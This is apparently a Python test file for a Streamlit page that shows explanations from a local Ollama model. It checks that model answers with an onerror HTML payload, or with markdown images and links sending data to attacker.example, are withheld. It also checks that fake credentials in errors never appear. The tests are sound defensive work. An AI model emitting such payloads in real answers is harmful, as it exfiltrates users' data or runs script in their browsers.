"""Each end of an explanation as a person sees it."""

import socket

import pytest

from tests.page.conftest import container, eventually, explain, keys, press, settled, words

SECRET = "leaked-words-of-the-server"


def test_a_good_answer_becomes_a_card(open_page, server):
    page = explain(open_page())
    assert container(page, "insight-card")
    assert "Every number below matches the data." in words(page)
    assert "Repeat purchase rate fell in October 2026." in words(page)
    assert "Written by stand-in:1b on Ollama" in words(page)
    assert page.button(key="explain").label == "Explain again"
    assert len(server.asked) == 1


def test_an_answer_that_contradicts_the_data_is_withheld_and_asked_for_once(open_page, server):
    server.state = "withheld"
    server.text = {"headline": SECRET, "explanation": SECRET}
    page = explain(open_page())
    assert page.warning[0].title == "Insight withheld"
    assert SECRET not in words(page)
    assert not page.get("html") or "Every number below" not in words(page)
    assert len(server.asked) == 1


@pytest.mark.parametrize(
    "text",
    [
        {"explanation": "Repeat purchase rate rose to 99.9 % in October 2026."},
        {"headline": "<img src=x onerror=alert(1)>"},
        {"explanation": "Net revenue fell. ![chart](https://attacker.example/p.png?d=482150-431900)"},
        {"explanation": "See [full report](https://attacker.example/?q=431900)"},
        {"headline": "We forecast 40.0 % for December 2026."},
        {"drivers": ["E99"]},
        {"extra": SECRET},
    ],
    ids=["number", "html", "image", "link", "forecast", "driver", "field"],
)
def test_nothing_of_a_refused_answer_reaches_the_page(open_page, server, text):
    """After https://github.com/epam/ai-dial-chat/issues/7109: an image in an answer called a foreign server."""
    server.text = text
    page = explain(open_page())
    assert page.warning[0].title == "Insight withheld"
    assert not container(page, "insight-card")
    for value in text.values():
        assert str(value) not in words(page)


def test_a_server_that_stays_down_is_unavailable_after_three_attempts(open_page, server):
    server.state = "unavailable"
    page = explain(open_page())
    assert page.warning[0].title == "Insight unavailable right now"
    assert "Please try again later." in words(page)
    assert "3 attempts" in words(page)
    assert len(server.asked) == 3
    assert "server busy" not in words(page)


def test_a_rate_limit_says_how_long_to_wait(open_page, server):
    server.state = "busy"
    page = explain(open_page())
    assert page.warning[0].title == "Insight unavailable right now"
    assert "Please try again in about 30\N{NO-BREAK SPACE}s." in words(page)
    assert len(server.asked) == 1


def test_no_server_at_all_is_unavailable(open_page):
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        address = f"127.0.0.1:{taken.getsockname()[1]}"
        page = explain(open_page(OLLAMA_HOST=address, INSIGHT_MODEL="m:1b"))
    assert page.warning[0].title == "Insight unavailable right now"
    assert f"Tried http://{address}: is Ollama running there?" in words(page)
    assert "could not be reached" in words(page)
    assert "Errno" not in words(page)


def test_a_model_that_is_not_installed_comes_with_the_command_that_installs_it(open_page, server):
    server.state = "missing-model"
    page = explain(open_page(INSIGHT_MODEL="absent:7b"))
    assert page.warning[0].title == "Insight unavailable: the model request needs attention"
    assert page.code[0].value == "ollama pull absent:7b"
    assert "On the server: stand-in:1b." in words(page)
    assert len(server.asked) == 1


def test_the_last_line_tells_whoever_runs_the_page_how_the_model_is(open_page, server):
    assert "Ollama · stand-in:1b · not known whether in memory · no explanation yet" in words(open_page())
    page = explain(open_page())
    assert "Ollama · stand-in:1b · in memory · latest explanations: 1 shown" in words(page)


def test_an_address_that_cannot_be_used_needs_attention(open_page):
    page = explain(open_page(OLLAMA_HOST="http://[broken", INSIGHT_MODEL="m:1b"))
    assert page.warning[0].title == "Insight unavailable: the model request needs attention"


def test_a_recovery_is_a_card_that_says_which_attempt_it_was(open_page, server):
    server.state = "flaky"
    page = explain(open_page())
    assert container(page, "insight-card")
    assert "2 attempts" in words(page)


def test_a_mistake_of_ours_is_admitted_with_a_reference_and_without_a_trace(open_page, monkeypatch, caplog):
    """After https://github.com/streamlit/streamlit/issues/4519: a page showed the stack next to a password."""

    def broken(*_, **__):
        raise RuntimeError("postgresql://analyst:s3cret@db.example/mart")

    monkeypatch.setattr("insight.model_service.generate_offer_insight", broken)
    page = explain(open_page())
    assert page.warning[0].title == "Insight unavailable right now"
    assert "made a mistake" in words(page)
    reference = words(page).partition("Reference ")[2][:8]
    assert reference in caplog.text
    assert "s3cret" not in words(page) + caplog.text
    assert "RuntimeError" not in words(page)


def test_a_mistake_while_drawing_is_admitted_the_same_way(open_page, monkeypatch, caplog):
    def broken(*_, **__):
        raise RuntimeError("GET https://analyst:s3cret@mart.example/rows")

    monkeypatch.setattr("insight.dataset.facts_for", broken)
    page = open_page()
    assert page.error[0].title == "This page made a mistake"
    assert "s3cret" not in words(page) + caplog.text
    reference = page.error[0].value.rpartition("reference ")[2].rstrip(".")
    assert reference in caplog.text


def test_a_panel_replaces_the_card_and_is_never_beside_it(open_page, server):
    page = explain(open_page())
    server.state = "withheld"
    explain(page)
    assert not container(page, "insight-card")
    assert page.warning[0].title == "Insight withheld"
    server.state = "card"
    explain(page)
    assert container(page, "insight-card")
    assert not page.warning


def test_figures_and_charts_stay_whatever_the_model_does(open_page, server):
    server.state = "unavailable"
    page = explain(open_page())
    assert len(page.get("vega_lite_chart")) == 2
    assert page.metric[0].value == "30.0 %"


def test_cancel_ends_the_work_and_says_so(open_page, server):
    server.state = "slow"
    page = press(open_page(), "explain")
    assert page.button(key="explain").label == "Explaining…"
    assert "of at most 150 s" in page.get("progress")[0].proto.text
    press(page, "cancel")
    settled(page)
    assert "Cancelled. Nothing was saved." in words(page)
    assert page.button(key="explain").label == "Explain this change"
    assert "cancel" not in keys(page)


def test_two_presses_ask_once(open_page, server):
    """After https://github.com/streamlit/streamlit/issues/8291: clicks queued during a run started a job each."""
    server.state = "slow"
    page = press(open_page(), "explain")
    assert eventually(lambda: server.asked)
    for _ in range(3):
        press(page, "explain")
    press(page, "cancel")
    settled(page)
    assert len(server.asked) == 1
